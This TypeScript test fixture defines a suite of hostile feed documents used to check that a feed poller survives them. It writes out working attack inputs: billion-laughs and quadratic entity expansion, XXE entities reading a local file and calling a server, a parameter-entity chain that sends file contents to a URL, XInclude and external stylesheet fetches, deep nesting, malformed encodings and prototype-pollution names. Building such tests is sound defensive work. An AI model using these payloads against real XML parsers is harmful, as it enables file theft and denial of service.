import type { PollResult } from '../../src/domain/poll.ts'

/** What a document could be made to read or ask for; neither ever is. */
export interface Traps {
  /** The `file:` address of a file that holds a secret. */
  readonly file: string
  /** The `http:` address of a server that counts. */
  readonly url: string
}

/** A document somebody serves to do harm, and what polling it must come to. */
export interface HostileDocument {
  readonly name: string
  readonly body: (traps: Traps) => string | Uint8Array
  /** Content-Type; undeclared unless given. */
  readonly type?: string
  readonly result: PollResult
  /** How many entries come out; 1, the survivor, unless given. */
  readonly entries?: number
  /** What the operator reads; nothing unless given. */
  readonly detail?: RegExp
  /** Takes so much that it is polled alone where memory is measured. */
  readonly isHeavy?: true
}

/** An honest entry that stands before the harm, and has to come out wherever a feed does. */
export const SURVIVOR = 'The survivor'

const MB = 1_000_000
const PROLOG = '<?xml version="1.0" encoding="UTF-8"?>'
const SURVIVOR_ITEM = `<item><title>${SURVIVOR}</title><guid>urn:survivor</guid><link>https://outlet.example/survivor</link></item>`
const SURVIVOR_ENTRY = `<entry><id>urn:survivor</id><title>${SURVIVOR}</title><updated>2026-03-01T00:00:00Z</updated></entry>`

/** RSS 2.0 whose channel holds the survivor and then `more`. */
export function rss(more: string, prolog = ''): string {
  return `${PROLOG}${prolog}<rss version="2.0"><channel><title>Outlet</title>${SURVIVOR_ITEM}${more}</channel></rss>`
}

/** Atom that holds the survivor and then `more`. */
export function atom(more: string, attributes = ''): string {
  return `${PROLOG}<feed xmlns="http://www.w3.org/2005/Atom"${attributes}><id>urn:f</id><title>Outlet</title>${SURVIVOR_ENTRY}${more}</feed>`
}

/** JSON Feed whose items are the survivor and then `more`, with further members if given. */
export function jsonFeed(more: string, members = ''): string {
  const survivor = JSON.stringify({ id: 'urn:survivor', title: SURVIVOR, content_text: 'still here' })
  return `{"version":"https://jsonfeed.org/version/1.1","title":"Outlet",${members}"items":[${survivor}${more}]}`
}

const item = (inside: string, attributes = '') => `<item${attributes}><guid>urn:hostile</guid><title>Hostile</title>${inside}</item>`
const entry = (inside: string, attributes = '') => `<entry${attributes}><id>urn:hostile</id><title>Hostile</title>${inside}</entry>`
const counted = (count: number, piece: (number: number) => string) => Array.from({ length: count }, (_, at) => piece(at)).join('')
const flood = (piece: string, size = MB) => piece.repeat(Math.ceil(size / piece.length))
const both = { result: 'ok', entries: 2 } as const
const cut = { result: 'ok', detail: /Entry 2 was left out: the document ends in the middle of it/ } as const

const FLOODS: readonly HostileDocument[] = [
  { name: '300 KB of "a<p " in CDATA', body: () => rss(item(`<description><![CDATA[${flood('a<p ', 300_000)}]]></description>`)), ...both },
  {
    name: '300 KB of "a<p " in an HTML text',
    body: () => atom(entry(`<content type="html">${flood('a&lt;p ', 450_000)}</content>`)),
    ...both,
  },
  ...['<', '&', '</a>'].map(piece => ({ ...flooded(piece, both), isHeavy: true as const })),
  ...['a<p ', '<a ', '&#', '&#x', '&amp', '<!', ']]>', '<a b="', "<a b='", '<a b=', '\ufffd'].map(piece => flooded(piece, both)),
  ...['<!--', '<![CDATA[', '<?'].map(piece => flooded(piece, cut)),
]

function flooded(piece: string, expected: Pick<HostileDocument, 'result' | 'entries' | 'detail'>): HostileDocument {
  return { name: `1 MB of "${piece}" in a description`, body: () => rss(item(`<description>${flood(piece)}</description>`)), ...expected }
}

const notAFeed = { result: 'not-a-feed', detail: /^text without a feed element, beginning “/ } as const
const nothing = { result: 'unreadable', detail: /^an XML prolog with no element behind it$/ } as const

const UNCLOSED: readonly (readonly [
  what: string,
  start: string,
  alone: typeof notAFeed | typeof nothing,
  inEntry: typeof both | typeof cut,
])[] = [
  ['comment', '<!--', nothing, cut],
  ['document type', '<!DOCTYPE rss [', nothing, both],
  ['CDATA section', '<![CDATA[', notAFeed, cut],
  ['start tag', '<rss ', notAFeed, both],
  ['attribute value', '<rss version="', notAFeed, both],
  ['processing instruction', '<?xml-stylesheet ', nothing, cut],
]

const unclosed: readonly HostileDocument[] = UNCLOSED.flatMap(([what, start, alone, inEntry]): readonly HostileDocument[] => [
  { name: `1 MB of ${what} that is not closed, in place of a feed`, body: () => `${PROLOG}${start}${flood('x')}`, ...alone },
  { name: `1 MB of ${what} that is not closed, in an entry`, body: () => rss(item(`${start}${flood('x')}`)), ...inEntry },
])

const entities: readonly HostileDocument[] = [
  {
    name: 'a billion laughs',
    body: () => {
      const laughs = counted(9, at => `<!ENTITY lol${at + 1} "${`&lol${at};`.repeat(10)}">`)
      return rss(item('<description>&lol9;</description>'), `<!DOCTYPE rss [<!ENTITY lol0 "ha">${laughs}]>`)
    },
    ...both,
  },
  {
    name: 'a quadratic blow-up',
    body: () => rss(item(`<description>${'&a;'.repeat(50_000)}</description>`), `<!DOCTYPE rss [<!ENTITY a "${flood('a', 50_000)}">]>`),
    ...both,
  },
  {
    name: 'entities that refer to themselves',
    body: () => rss(item('<description>&a;</description>'), '<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
    ...both,
  },
  {
    name: 'an external entity in a file',
    body: ({ file }) => rss(item('<description>&secret;</description>'), `<!DOCTYPE rss [<!ENTITY secret SYSTEM "${file}">]>`),
    ...both,
  },
  {
    name: 'an external entity on a server',
    body: ({ url }) => rss(item('<description>&secret;</description>'), `<!DOCTYPE rss [<!ENTITY secret SYSTEM "${url}">]>`),
    ...both,
  },
  {
    name: 'parameter entities that fetch declarations',
    body: ({ file, url }) => {
      const send = `<!ENTITY &#37; send "<!ENTITY &#37; go SYSTEM '${url}?&#37;file;'>">`
      return rss(item(''), `<!DOCTYPE rss [<!ENTITY % file SYSTEM "${file}"><!ENTITY % dtd SYSTEM "${url}">%dtd;${send}%send;%go;]>`)
    },
    ...both,
  },
  { name: 'an external document type', body: ({ url }) => rss(item(''), `<!DOCTYPE rss PUBLIC "-//a//b" "${url}">`), ...both },
  {
    name: 'XInclude',
    body: ({ file, url }) => {
      const include = (href: string) => `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="${href}"/>`
      return rss(item(`<description>${include(file)}${include(url)}</description>`))
    },
    ...both,
  },
  {
    name: 'style sheets, schemas and models',
    body: ({ file, url }) => {
      const wishes = `<?xml-stylesheet href="${url}" type="text/xsl"?><?xml-stylesheet href="${file}"?><?xml-model href="${url}"?>`
      return rss(item(`<xsi:a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x ${url}"/>`), wishes)
    },
    ...both,
  },
  {
    name: 'contents, links and images elsewhere',
    body: ({ file, url }) => {
      const links = ['self', 'next', 'hub', 'first', 'enclosure'].map(rel => `<link rel="${rel}" href="${url}"/>`).join('')
      const image = `&lt;img src="${url}">&lt;iframe src="${file}">&lt;/iframe>&lt;link rel="stylesheet" href="${url}">`
      return atom(`${links}<icon>${url}</icon>${entry(`<content src="${file}"/><summary type="html">${image}</summary>`)}`)
    },
    ...both,
  },
]

const DEEP = 200_000
const nested = (open: string, close: string, inside = '') => open.repeat(DEEP) + inside + close.repeat(DEEP)

const nesting: readonly HostileDocument[] = [
  { name: '200,000 elements inside each other in an entry', body: () => rss(item(nested('<x>', '</x>', 'deep'))), ...both },
  { name: '200,000 items inside each other', body: () => rss(nested('<item>', '</item>')), result: 'ok', detail: /left out/ },
  { name: '200,000 channels inside each other', body: () => rss(item(nested('<channel>', '</channel>'))), ...both },
  {
    name: '200,000 elements around the entries',
    body: () => `${PROLOG}<rss version="2.0"><channel>${nested('<x>', '</x>', SURVIVOR_ITEM)}</channel></rss>`,
    result: 'ok',
    entries: 0,
    detail: /Entry 1 was left out/,
  },
  { name: '200,000 elements that are not closed', body: () => rss(item('<x>'.repeat(DEEP))), ...both },
  {
    name: '200,000 div in XHTML content',
    body: () => atom(entry(`<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">${nested('<div>', '</div>')}</div></content>`)),
    ...both,
    isHeavy: true,
  },
  {
    name: '200,000 div in HTML content',
    body: () => atom(entry(`<content type="html">${nested('&lt;div>', '&lt;/div>')}</content>`)),
    ...both,
  },
  { name: '200,000 arrays in a JSON feed', body: () => jsonFeed('', `"_x":${nested('[', ']')},`), type: 'application/json', result: 'ok' },
  {
    name: '200,000 arrays for items',
    body: () => jsonFeed(`,${nested('[', ']')}`),
    type: 'application/json',
    result: 'ok',
    detail: /not an object/,
  },
  {
    name: '200,000 objects for an author',
    body: () => jsonFeed(`,{"id":"urn:hostile","authors":${nested('{"author":', '}', '1')}}`),
    ...both,
  },
  { name: '200,000 arrays and nothing else', body: () => nested('[', ']'), result: 'not-a-feed', detail: /JSON/ },
  { name: '200,000 arrays that are not closed', body: () => '['.repeat(DEEP), result: 'not-a-feed', detail: /JSON/ },
]

const MANY = 100_000
const tooMany = { result: 'ok', entries: 10_000, detail: /entries after the first 10000 were left out/ } as const

const numbers: readonly HostileDocument[] = [
  {
    name: '100,000 items in RSS',
    body: () => rss(counted(MANY, at => `<item><guid>urn:${at}</guid><title>t</title></item>`)),
    ...tooMany,
    isHeavy: true,
  },
  {
    name: '100,000 entries in Atom',
    body: () => atom(counted(MANY, at => `<entry><id>urn:${at}</id></entry>`)),
    ...tooMany,
    isHeavy: true,
  },
  { name: '100,000 items in JSON', body: () => jsonFeed(counted(MANY, at => `,{"id":"urn:${at}"}`)), ...tooMany, isHeavy: true },
  { name: '100,000 items that are empty', body: () => rss('<item/>'.repeat(MANY)), result: 'ok', detail: /left out/ },
  { name: '100,000 items with one id', body: () => rss(item('').repeat(MANY)), ...{ ...both, detail: /left out/ } },
  {
    name: '100,000 attributes on one element',
    body: () =>
      rss(
        item(
          '',
          counted(MANY, at => ` a${at}="v"`),
        ),
      ),
    ...both,
  },
  { name: '100,000 times one attribute', body: () => rss(item('', ' a="v"'.repeat(MANY))), ...both },
  {
    name: '100,000 attributes on the outermost element',
    body: () =>
      atom(
        entry(''),
        counted(MANY, at => ` a${at}="v"`),
      ),
    ...both,
  },
  {
    name: '100,000 namespaces on one entry',
    body: () =>
      rss(
        item(
          '',
          counted(MANY, at => ` xmlns:n${at}="urn:${at}"`),
        ),
      ),
    ...both,
  },
  {
    name: '100,000 namespaces on the outermost element',
    body: () =>
      atom(
        entry(''),
        counted(MANY, at => ` xmlns:n${at}="http://purl.org/dc/elements/1.1/"`),
      ),
    ...both,
    isHeavy: true,
  },
  {
    name: '30,000 elements that each declare a namespace',
    body: () => rss(item(counted(30_000, at => `<n${at}:x xmlns:n${at}="http://purl.org/dc/elements/1.1/"/>`))),
    ...both,
  },
  { name: '100,000 element names', body: () => rss(item(counted(MANY, at => `<e${at}>x</e${at}>`))), ...both },
  {
    name: '100,000 links, authors and categories',
    body: () => atom(entry(counted(MANY / 5, at => `<link href="/${at}"/><author><name>${at}</name></author><category term="${at}"/>`))),
    ...both,
  },
  {
    name: 'a title of 9 MB',
    body: () => rss(`<item><guid>urn:hostile</guid><title>${flood('x', 9 * MB)}</title></item>`),
    ...both,
    isHeavy: true,
  },
  { name: 'an address of 1 MB', body: () => rss(item(`<link>https://outlet.example/${flood('x')}</link>`)), ...both },
  { name: 'a date of 1 MB', body: () => rss(item(`<pubDate>${flood('2026-01-01 ')}</pubDate>`)), ...both },
  { name: 'a date of 1 MB of digits', body: () => rss(item(`<pubDate>${flood('1')}</pubDate>`)), ...both },
  { name: 'a name of 1 MB', body: () => rss(item(`<${flood('n')}>x</${flood('n')}>`)), ...both },
]

const wide = (text: string) => Buffer.from(text, 'utf16le')

const encodings: readonly HostileDocument[] = [
  { name: '1 MB of NUL', body: () => Buffer.alloc(MB), ...nothing },
  { name: 'NUL between all characters', body: () => rss(item('')).replaceAll(/./g, '$&\0'), ...both },
  { name: 'NUL in names and texts', body: () => rss(`<it\0em><guid>urn:host\0ile</guid><title>Hos\0tile</title></item>`), ...both },
  { name: 'UTF-16 without a mark', body: () => wide(rss(item(''))), ...both },
  { name: 'UTF-16 that says it is UTF-8', body: () => wide(rss(item(''))), type: 'text/xml; charset=utf-8', ...both },
  { name: 'UTF-16, big-endian, without a mark', body: () => wide(rss(item(''))).swap16(), ...both },
  { name: 'UTF-16 with half a character', body: () => wide(rss(item('<description>\ud800 \udc00 \udc00\ud800</description>'))), ...both },
  { name: 'UTF-16 of an odd length', body: () => wide(rss(item(''))).subarray(0, -1), ...both },
  {
    name: 'overlong UTF-8',
    body: () => Buffer.from(rss(item('<description>\xc0\xbcscript\xc0\xbe \xe0\x80\xaf \xf0\x80\x80\xbc</description>')), 'latin1'),
    ...both,
  },
  {
    name: 'surrogates in UTF-8',
    body: () => Buffer.from(rss(item('<description>\xed\xa0\x80\xed\xb0\x80</description>')), 'latin1'),
    ...both,
  },
  { name: 'half a character in JSON', body: () => jsonFeed(',{"id":"urn:hostile","title":"\\ud800 \\udc00"}'), ...both },
  { name: 'half a character in a reference', body: () => rss(item('<description>&#xd800;&#56320;&#x110000;&#0;</description>')), ...both },
  { name: 'an encoding that lies', body: () => rss(item('')).replace('UTF-8', 'UTF-16'), ...both },
  { name: 'an encoding nobody knows', body: () => rss(item('')).replace('UTF-8', 'x-\u{1f480}'), type: 'text/xml; charset=utf-7', ...both },
  { name: '300,000 byte order marks', body: () => `${'\ufeff'.repeat(300_000)}${rss(item(''))}`, ...both },
]

const NAMES = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', '$', '_', '__proto__.polluted']

const names: readonly HostileDocument[] = [
  ...NAMES.filter(name => name !== '$').flatMap((name): readonly HostileDocument[] => [
    {
      name: `elements named ${name}`,
      body: () => rss(`${item(`<${name}><polluted>1</polluted></${name}>`)}<${name}>x</${name}>`),
      ...both,
    },
    { name: `attributes named ${name}`, body: () => rss(item(`<link ${name}="polluted"/>`, ` ${name}="polluted"`)), ...both },
    {
      name: `namespaces named ${name}`,
      body: () => rss(item(`<${name}:polluted xmlns:${name}="http://www.w3.org/2005/Atom" ${name}:polluted="1">1</${name}:polluted>`)),
      ...both,
    },
    { name: `entities named ${name}`, body: () => rss(item(`<description>&${name};</description>`)), ...both },
  ]),
  ...NAMES.map(
    (name): HostileDocument => ({
      name: `JSON members named ${name}`,
      body: () =>
        jsonFeed(`,{"id":"urn:hostile","${name}":{"polluted":1},"author":{"${name}":{"polluted":1}}}`, `"${name}":{"polluted":1},`),
      ...both,
    }),
  ),
  {
    name: 'an outermost element named __proto__',
    body: () => `${PROLOG}<__proto__><item/></__proto__>`,
    result: 'not-a-feed',
    detail: /<__proto__>/,
  },
]

/** Every document of the suite, each under a name of its own. */
export const HOSTILE_DOCUMENTS: readonly HostileDocument[] = [
  ...FLOODS,
  ...unclosed,
  ...entities,
  ...nesting,
  ...numbers,
  ...encodings,
  ...names,
]
